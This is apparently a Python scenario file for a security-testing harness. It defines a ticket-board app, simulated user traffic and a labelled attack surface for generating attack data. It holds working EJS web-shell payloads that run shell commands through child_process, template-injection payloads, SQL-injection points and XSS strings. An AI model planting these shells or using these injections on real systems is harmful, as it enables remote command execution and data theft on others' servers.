"""A ticket board on Express and PostgreSQL: one thread for all requests, `POST /rpc` beside ordinary routes."""
import shutil
import subprocess
from pathlib import Path

from recorder.application import Application, Person, as_www_data
from recorder.attacks import Planting, Surface, Write
from recorder.databases import Postgres
from recorder.injections import Place, Secrets
from recorder.labels import Label
from recorder.users import outside, returned

HERE = Path(__file__).parent
PEOPLE = [Person(login, f"pw-{login}", "") for login in ("admin", "kim", "lou", "ida", "bo", "sam", "eve", "max", "zoe", "ned", "amy", "rex", "ina", "tom", "uma", "jon")]
TEMPLATES = ["Dear <%= name %>, about <%= ticket %>: done.", "Hello <%= name %>!", "<% if (ticket) { %>Ticket <%= ticket %><% } %> is yours, <%= name %>."]


def prepare(instance):
    shutil.copytree(HERE, instance.folder / "app", dirs_exist_ok=True)
    subprocess.run(["npm", "install", "--silent", "--no-audit", "--no-fund"], cwd=instance.folder / "app", check=True)
    instance.database.sql((HERE / "schema.sql").read_text(), "app")
    instance.database.sql("ALTER TABLE users OWNER TO app", "app")


def server(instance):
    return as_www_data(shutil.which("node"), instance.folder / "app" / "server.mjs", instance.port, instance.port + 500, instance.folder), {"NODE_ENV": "production"}


def jobs(instance):
    return [f"{instance.database.dump} | gzip > {instance.folder}/tmp/backup.gz", f"find {instance.folder}/tmp -mmin +60 -type f -delete"]


async def login(client, person):
    await client.submit("/login", {"login": person.login, "pass": person.password})


async def guess(client, name, password, label):
    await client.submit("/login", {"login": name, "pass": password}, label=label)


async def read(u):
    await u.client.visit(u.rand.choice(["/", "/", "/tickets", "/archive", "/files", "/profile"]))
    if await u.think(0.1, 0.6):
        await u.client.visit(f"/tickets/{u.rand.randint(1, 80)}")


async def search(u):
    if u.rand.random() < 0.7:
        await u.client.submit("/tickets", {"q": u.texts.query(), "status": u.rand.choice(["", "open", "closed"])})
    else:
        await u.client.visit(f"/tickets?q={u.texts.word()}&sort={u.rand.choice(['id', 'title', 'status', 'priority desc', 'created'])}")


async def archive(u):
    await u.client.submit("/archive", {"word": u.texts.query() if u.rand.random() < 0.15 else u.texts.word()})


async def new_ticket(u):
    await u.client.submit("/", {"title": u.texts.title(), "body": u.texts.prose()})


async def comment(u):
    await u.client.submit(f"/tickets/{u.rand.randint(1, 80)}", {"body": u.texts.markup() if u.rand.random() < 0.4 else u.texts.prose()})


async def close_ticket(u):
    await u.client.visit(f"/tickets/{u.rand.randint(1, 80)}")
    await u.think(0.2, 0.8)
    await u.client.visit(f"/tickets/{u.rand.randint(1, 80)}/close?reason={u.rand.choice(['done', 'gone', 'twice', 'no%20answer'])}")


async def watch(u):
    await u.client.visit("/")
    await u.client.visit(f"/watch?ticket={u.rand.randint(1, 80)}&note={u.texts.word()}")


async def profile(u):
    fields = {"fullname": u.texts.name().replace("<", "("), "email": u.texts.mail(), "phone": u.texts.phone(), "street": u.texts.street(), "city": u.texts.city(), "bio": u.rand.choice(["I like boats", "sailor & cook", "new here", "C#, SQL, select, where"])}
    names = u.rand.sample(sorted(fields), u.rand.randint(1, 6))
    await u.client.submit("/profile", {name: fields[name] for name in names})


async def rpc(u):
    await u.client.visit("/")
    method, params = u.rand.choice([("tickets.find", {"status": u.rand.choice(["open", "waiting", "closed"]), "since": f"202{u.rand.randint(0, 6)}-0{u.rand.randint(1, 9)}-01"}), ("stats.count", {}), ("me.get", {}),
                                    ("tickets.prioritise", {"id": u.rand.randint(1, 80), "priority": u.rand.randint(0, 4)}), ("tickets.rank", {"above": u.rand.randint(0, 4)}), ("me.rename", {"fullname": u.texts.name().replace("<", "(")})])
    await u.client.call("POST", "/rpc", json={"method": method, "params": params, "id": u.rand.randint(1, 999)})


async def upload(u):
    name, kind, content = u.texts.file()
    await u.client.submit("/files", {}, files={"file": (name, kind, content)})
    if await u.think(0.1, 0.5):
        await u.client.call("GET", f"/download?file={name.replace(' ', '%20')}")
    if name == "notes.txt":
        await u.client.submit("/files", {"name": name})


async def preview(u):
    await u.client.submit("/files", {"url": f"{u.sites.honest(False)}/article/{u.rand.randint(1, 99)}?ref=board"})


async def letter(u):
    await u.client.submit("/letters", {"template": u.rand.choice(TEMPLATES), "ticket": str(u.rand.randint(1, 80))})


async def export(u):
    if u.rand.random() < 0.4:
        return await u.client.visit("/account/export")
    await u.client.visit("/tickets")
    await u.client.call("GET", "/tickets.csv")


async def pay(u):
    await u.client.visit("/pay")
    await returned(u, "/pay/return", {"reference": f"INV-{u.rand.randint(100, 999)}", "state": "paid", "signature": f"{u.rand.getrandbits(64):x}"})


async def single_sign_on(u):
    await u.client.visit("/logout")
    await returned(u, "/sso/return", {"code": f"{u.rand.getrandbits(60):x}", "state": "x", "subject": u.person.login}, "get", "id")


async def report(u):
    if u.person.login == "admin":
        await u.client.submit("/files", {}, files={"file": ("weekly.ejs", "text/plain", b"<ul><% for (const row of rows) { %><li><%= row.status %> <%= row.count %></li><% } %></ul>")})
    await u.client.visit("/reports/weekly?week=" + str(u.rand.randint(1, 52)))


async def newsletter(u):
    """A link on another site that changes something here."""
    await returned(u, "/watch", {"ticket": u.rand.randint(1, 80), "note": "mail"}, "get", "news")


async def odd_upload(u):
    name, content = u.rand.choice([("list.php.png", b"\x89PNG\r\n"), ("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><title>mine</title></svg>"), ("notes.html", b"<p>Hello</p>"), ("setup.sh", b"#!/bin/sh\necho hello\n")])
    await u.client.submit("/files", {}, files={"file": (name, "application/octet-stream", content)})


async def odd_question(u):
    await u.client.submit("/", {"title": "Question: how is <script> escaped?", "body": "Our DBA says: UPDATE users SET city = 'x' WHERE id = 5 -- or <img src=x onerror=alert(1)>, is that bad? ' OR 1=1"})


async def new_feature(u):
    await u.client.visit(f"/tickets?q=rope&view=grid&min={u.rand.randint(1, 9)}&tags[]=a&tags[]=b")


async def webhook(episode, rand):
    await outside(episode, rand).call("POST", "/hooks/payment", json={"reference": f"INV-{rand.randint(100, 999)}", "state": rand.choice(["paid", "settled", "refunded"]), "note": "O'Brien & Sons"}, headers={"X-Signature": f"{rand.getrandbits(64):x}"})


async def api_client(episode, rand):
    for after in range(0, 30, 10):
        await outside(episode, rand).call("GET", f"/api/tickets?after={after}")


async def crawler(episode, rand):
    for path in ("/robots.txt", "/", "/sitemap.xml", "/wp-login.php", "/favicon.ico"):
        await outside(episode, rand, "ExampleBot/2.1 (+https://bot.example/about)").visit(path)
        await episode.pause(0.5)


SHELLS = [b"<% const { execSync } = require('child_process'); %><pre><%= execSync(query.c) %></pre>", b"<%- require('child_process').execSync(query.c ?? 'id').toString() %>"]


async def shell(attack):
    name = f"week{attack.rand.randrange(99)}"
    await attack.client.submit("/files", {}, files={"file": (f"{name}.ejs", "text/plain", attack.rand.choice(SHELLS))}, label=Label("web-shell", "upload", 0))
    return f"/reports/{name}"


RPC_FIND = {"method": "tickets.find", "params": {"status": "open", "since": "2024-01-01"}, "id": 1}
RPC_RANK = {"method": "tickets.rank", "params": {"above": 1}, "id": 2}
ATTACKS = Surface(
    dialect="postgresql",
    secrets=Secrets("users", "login", "pass", ("role", "fullname", "email", "phone", "street", "city")),
    reads=[Place("GET", "/archive", "word", "like", ")", "nttt"), Place("GET", "/tickets/{}", "", "number", "", "nttt")],
    orders=[Place("GET", "/tickets", "sort", "order", "", "id,title", {"q": "rope"})],
    stacked=[Place("GET", "/tickets/{}", "", "number"), Place("GET", "/archive", "word", "like", ")")],
    updates=[Place("POST", "/profile", "bio", others={"city": "Cork"})],
    json=[Place("POST", "/rpc", "params.status", "string", "", "nt", RPC_FIND, "json"), Place("POST", "/rpc", "params.above", "number", "", "", RPC_RANK, "json")],
    logins=[Place("POST", "/login", "login", others={"pass": "x"})],
    guess=guess,
    reflected=[Place("GET", "/archive", "word")],
    plantings=[Planting(f"/tickets/{n}", "body", f"/tickets/{n}") for n in (3, 7, 12)] + [Planting("/profile", "fullname", "/")],
    writes=[Write("/profile", {"fullname": "Kim {}", "email": "kim{}@mail.example", "phone": "555 {}", "street": "{} Far Away", "city": "Nowhere", "bio": "none"}), Write("/tickets", {"title": "Order {}", "body": "all of it"}), Write("/tickets/9/comments", {"body": "agreed {}"})],
    guarded_writes=[],
    changing_gets=["/tickets/5/close?reason=late{}", "/watch?ticket={}&note=all", "/tickets/31/close?reason={}"],
    private=["/account/export"],
    json_writes=[("/rpc", '{"method":"me.rename","params":{"fullname":"Kim {}"}}')],
    shell=shell,
    commands=[Place("POST", "/files/count", "name", honest="notes.txt")],
    templates=[(Place("POST", "/letters", "template", others={"ticket": "5"}), ["<%= require('child_process').execSync('COMMAND') %>", "<%- global.process.getBuiltinModule('child_process').execSync('COMMAND') %>", "<%= 7*7 %><% const o = require('os') %><%= o.platform() %>"])],
    files=[Place("GET", "/download", "file", honest="notes.txt")],
    fetches=[Place("POST", "/preview", "url")],
)
APPLICATION = Application(
    name="board", database=Postgres, packages=("postgresql", *(() if shutil.which("npm") else ("nodejs", "npm"))), prepare=prepare, server=server, ready="/login", access_log="log/access.jsonl",
    actions=[(8, read), (4, search), (3, archive), (2, new_ticket), (3, comment), (1, close_ticket), (1, watch), (2, profile), (4, rpc), (1, upload), (1, preview), (1, letter), (1, export), (1, pay), (1, single_sign_on), (1, report)],
    odd_actions=[newsletter, odd_upload, odd_question, new_feature],
    others=[(9, webhook), (12, api_client), (40, crawler)],
    login=login, people=PEOPLE, pages=["/", "/tickets", "/tickets/4", "/files"], attacks=ATTACKS, jobs=jobs,
)
